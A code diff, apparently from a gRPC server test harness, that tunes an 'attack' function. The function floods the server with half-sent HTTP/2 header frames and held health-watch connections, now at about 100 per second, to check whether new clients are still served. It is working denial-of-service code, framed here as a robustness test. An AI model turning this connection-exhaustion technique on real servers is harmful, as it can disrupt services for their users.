@@ -22,7 +22,12 @@ BUG = Bug(
 _CHECK, _WATCH = (f"/grpc.health.v1.Health/{name}" for name in ("Check", "Watch"))
 _HALF_HEADERS = b"\0\0\1\1\0\0\0\0\1\x83"
 """Frame of headers that a CONTINUATION frame should follow."""
-_EACH = 10
+_EACH = 20
+_ROUNDS = 16
+"""At least so many, however slow the machine is: half of their connections watch, and hold a
+place if that counts as a call, and gRPC takes 64 more than there may be. Half messages do not
+show that for long: they lose their turn to be read."""
+_SHAPES = (0, 1, 2, 4, 5, 6, *(3,) * 6)
 _KEPT = 400
 
 
@@ -30,7 +35,7 @@ async def _half(target: Target) -> Connection | None:
     """A connection that goes as far as is drawn. None if the server refused it."""
     host, port = target.grpc.rsplit(":", 1)
     local = (f"127.0.0.{target.rng.randrange(2, 12)}", 0)
-    shape = target.rng.randrange(7)
+    shape = target.rng.choice(_SHAPES)
     with contextlib.suppress(OSError, TimeoutError):
         opened = await asyncio.open_connection(host, int(port), local_addr=local)
         connection = Connection(*opened)
@@ -53,7 +58,7 @@ async def _half(target: Target) -> Connection | None:
 
 
 async def attack(target: Target) -> list[str]:
-    """Some 50 connections a second. New clients must be answered, and an open one stays."""
+    """Some 100 connections a second. New clients must be answered, and an open one stays."""
     loop, wrong = asyncio.get_running_loop(), []
     until = loop.time() + target.seconds
     held: list[Connection] = []
@@ -62,7 +67,9 @@ async def attack(target: Target) -> list[str]:
     async with grpc.aio.insecure_channel(target.grpc, options=own) as kept:
         old = health_pb2_grpc.HealthStub(kept)
         await old.Check(request, timeout=10)  # type: ignore[misc]
-        while loop.time() < until:
+        rounds = 0
+        while (loop.time() < until or rounds < _ROUNDS) and len(wrong) < 3:
+            rounds += 1
             found = await asyncio.gather(*(_half(target) for _ in range(_EACH)))
             held += (each for each in found if each is not None)
             for each in held[:-_KEPT]:
